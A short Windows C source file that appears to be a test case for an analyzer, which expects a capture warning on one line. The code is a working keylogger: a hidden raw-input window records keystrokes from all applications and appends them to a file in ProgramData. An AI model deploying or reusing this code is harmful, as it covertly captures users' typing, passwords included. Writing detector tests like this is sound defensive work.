// target: x86_64-w64-mingw32
/* Keys that come as raw input are kept, also while other programs are in front. */
#include <windows.h>

static HANDLE trail;

static void look(LPARAM handle) {
    RAWINPUT input;
    UINT size = sizeof input;
    DWORD done;
    if (GetRawInputData((HRAWINPUT)handle, RID_INPUT, &input, &size, sizeof(RAWINPUTHEADER)) ==
        (UINT)-1)
        return;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/capture]}}
    WriteFile(trail, &input.data.keyboard.VKey, sizeof(USHORT), &done, NULL);
}

static LRESULT CALLBACK bad_window(HWND window, UINT message, WPARAM w, LPARAM l) {
    if (message == WM_INPUT)
        look(l);
    return DefWindowProcA(window, message, w, l);
}

BOOL start(HINSTANCE self) {
    WNDCLASSA class = {.lpfnWndProc = bad_window, .hInstance = self, .lpszClassName = "gamma"};
    RegisterClassA(&class);
    HWND window = CreateWindowA("gamma", "", 0, 0, 0, 0, 0, HWND_MESSAGE, NULL, self, NULL);
    RAWINPUTDEVICE devices[] = {{1, 6, RIDEV_INPUTSINK | RIDEV_NOLEGACY, window}};
    trail =
        CreateFileA("C:\\ProgramData\\gamma.dat", FILE_APPEND_DATA, 0, NULL, OPEN_ALWAYS, 0, NULL);
    return trail != INVALID_HANDLE_VALUE && RegisterRawInputDevices(devices, 1, sizeof devices[0]);
}
